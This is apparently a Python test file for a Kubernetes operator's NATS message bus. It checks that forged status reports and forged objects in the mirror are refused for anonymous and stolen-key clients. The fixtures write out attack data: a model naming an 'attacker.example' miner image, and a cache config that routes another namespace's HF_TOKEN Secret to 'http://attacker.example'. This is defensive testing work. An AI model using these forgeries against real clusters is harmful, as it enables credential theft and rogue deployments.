"""The three forgeries that once worked against the running operator, each refused now.

Before the bus was authenticated, a plain NATS client with no credentials could (1) publish a status
report that turned a Failed AIMService in another namespace into Running, (2) put an AIMModel into
the object mirror that made the deployer run an image of its choosing, and (3) put an AIMModelCache
into the mirror that made the cache service send a Secret of another namespace to its server. Here
each is tried against the session's running services by every client an attacker could plausibly
hold: none (anonymous), a download Job's key (readable in the user's namespace), aimctl's reader key,
and a service's own key (one compromised service must not be able to impersonate the watcher)."""

from __future__ import annotations

import asyncio
import contextlib
import json
from typing import Any

import nats
import pytest
from nats.aio.client import Client as NatsClient
from nats.errors import Error as NatsError
from nats.js.errors import KeyDeletedError, KeyNotFoundError, NotFoundError

from aim_dev.testing.plugin import LocalServers, connect_as
from aimcore.api.bus import subjects, topology
from aimcore.api.bus.messages import ChangeEvent, ChangeType, ConditionReport, ObjectRef, StatusReport
from aimcore.api.kinds import by_kind
from aimcore.runtime.kube import Kube
from tests.helpers import REFUSAL_MARKER, condition, has, manifest, refusals_settled, status_of

AIMSVC = by_kind("aim.eai.amd.com", "AIMService")
AIMMODEL = by_kind("aim.eai.amd.com", "AIMModel")
MODEL_CACHE = by_kind("aim.eai.amd.com", "AIMModelCache")
STOLEN_KEYS = ("download", "reader", "deployer", "cache")
"""Keys outside the watcher: a Job's, aimctl's, and two services' (reporting status is a service's
job, so the status forgery is tried with the keys that may not)."""


async def test_no_credentials_no_connection(aim_servers: LocalServers) -> None:
    with pytest.raises(NatsError, match="Authorization Violation"):
        await nats.connect(
            aim_servers.nats.url, allow_reconnect=False, max_reconnect_attempts=0, connect_timeout=3
        )


async def attempt(servers: LocalServers, role: str, forge: Any) -> list[str]:
    """Run ``forge(nc)`` as ``role``; the permission violations the server answered with."""
    errors: list[str] = []

    async def on_error(exc: Exception) -> None:
        errors.append(str(exc))

    nc: NatsClient = await connect_as(servers.nats, role, on_error=on_error)
    try:
        with contextlib.suppress(NatsError, TimeoutError):
            async with asyncio.timeout(3):
                await forge(nc)
        await refusals_settled(nc, errors)  # a flush is no barrier for refusals
    finally:
        await nc.close()
    return [e for e in errors if "permissions violation" in e and REFUSAL_MARKER not in e]


async def last_seq(js: Any, stream: str, subject: str) -> int | None:
    try:
        return (await js.get_last_msg(stream, subject)).seq  # type: ignore[no-any-return]
    except NotFoundError:
        return None


@pytest.mark.parametrize("role", ("download", "reader"))
async def test_a_forged_status_report_is_refused(  # noqa: PLR0917
    running: Any, aim_servers: LocalServers, kube: Kube, namespace: str, js: Any, role: str
) -> None:
    await kube.create(AIMSVC, manifest(AIMSVC, "victim", namespace, {"model": {"name": "absent"}}), namespace)
    failed = await status_of(
        kube, AIMSVC, namespace, "victim", lambda s: s.get("status") == "Failed", "Failed"
    )
    subject = subjects.status_subject(AIMSVC, namespace, "victim")
    before = await last_seq(js, topology.STATUS_STREAM, subject)
    forged = StatusReport(
        object=ObjectRef.of(AIMSVC, namespace, "victim"),
        uid=failed["metadata"]["uid"],
        source="deployer",
        observed_generation=failed["metadata"]["generation"],
        conditions=tuple(
            ConditionReport(type=t, status="True", reason="Forged")
            for t in ("ModelReady", "TemplateReady", "InferenceServiceReady", "InferenceServicePodsReady")
        ),
        fields={"status": "Running"},
    )

    async def forge(nc: NatsClient) -> None:
        await nc.jetstream().publish(subject, forged.encode(), headers={"Nats-Msg-Id": "forged"}, timeout=2)

    assert await attempt(aim_servers, role, forge), "the server did not refuse the forged report"
    assert await last_seq(js, topology.STATUS_STREAM, subject) == before  # nothing reached the stream
    after = await kube.get(AIMSVC, namespace, "victim")
    assert after is not None and after["status"]["status"] == "Failed"
    assert condition(after["status"], "ModelReady").get("reason") != "Forged"


def _mirror_forgery(ref: Any, namespace: str, name: str, body: dict[str, Any]) -> Any:
    key = subjects.object_key(ref, namespace, name)
    obj = {**body, "metadata": {**body["metadata"], "uid": "forged-uid", "resourceVersion": "999999999"}}
    event = ChangeEvent(
        object=ObjectRef.of(ref, namespace, name),
        uid="forged-uid",
        resource_version="999999999",
        change=ChangeType.ADDED,
    )

    async def forge(nc: NatsClient) -> None:
        js = nc.jetstream()
        writes = (
            (f"$KV.{topology.OBJECTS_BUCKET}.{key}", json.dumps(obj).encode()),
            (subjects.event_subject(ref, namespace, name), event.encode()),
        )
        for subject, data in writes:  # each tried, whatever became of the other
            with contextlib.suppress(NatsError, TimeoutError):
                await js.publish(subject, data, timeout=2)

    return key, forge


async def _not_mirrored(js: Any, key: str) -> bool:
    kv = await topology.objects_bucket(js)
    try:
        await kv.get(key)
    except (KeyNotFoundError, KeyDeletedError):
        return True
    return False


@pytest.mark.parametrize("role", STOLEN_KEYS)
async def test_a_forged_model_in_the_mirror_is_refused(  # noqa: PLR0917
    running: Any, aim_servers: LocalServers, kube: Kube, namespace: str, js: Any, role: str
) -> None:
    """The forged model would name the attacker's image; the service would then deploy it."""
    body = manifest(AIMMODEL, "evil", namespace, {"image": "attacker.example/miner:latest"})
    key, forge = _mirror_forgery(AIMMODEL, namespace, "evil", body)
    violations = await attempt(aim_servers, role, forge)
    assert any("$kv.aim-objects" in v for v in violations), violations
    assert any("aim.events" in v for v in violations), violations
    assert await _not_mirrored(js, key)
    assert await kube.get(AIMMODEL, namespace, "evil") is None


@pytest.mark.parametrize("role", STOLEN_KEYS)
async def test_a_forged_model_cache_in_the_mirror_is_refused(  # noqa: PLR0917
    running: Any, aim_servers: LocalServers, kube: Kube, namespace: str, js: Any, role: str
) -> None:
    """The forged cache would name a Secret of another namespace and the attacker's server."""
    spec = {
        "sourceUri": "hf://attacker/model",
        "env": [
            {"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {"name": "other-teams-token", "key": "t"}}},
            {"name": "HF_ENDPOINT", "value": "http://attacker.example"},
        ],
    }
    key, forge = _mirror_forgery(
        MODEL_CACHE, namespace, "exfiltrate", manifest(MODEL_CACHE, "exfiltrate", namespace, spec)
    )
    violations = await attempt(aim_servers, role, forge)
    assert any("$kv.aim-objects" in v for v in violations), violations
    assert await _not_mirrored(js, key)


async def test_a_real_change_still_flows(running: Any, kube: Kube, namespace: str) -> None:
    """The control: the same kinds of objects, created for real, are mirrored and reconciled."""
    await kube.create(AIMSVC, manifest(AIMSVC, "real", namespace, {"model": {"name": "absent"}}), namespace)
    await status_of(
        kube, AIMSVC, namespace, "real", has("ModelReady", "False", "ModelNotFound"), "ModelNotFound"
    )
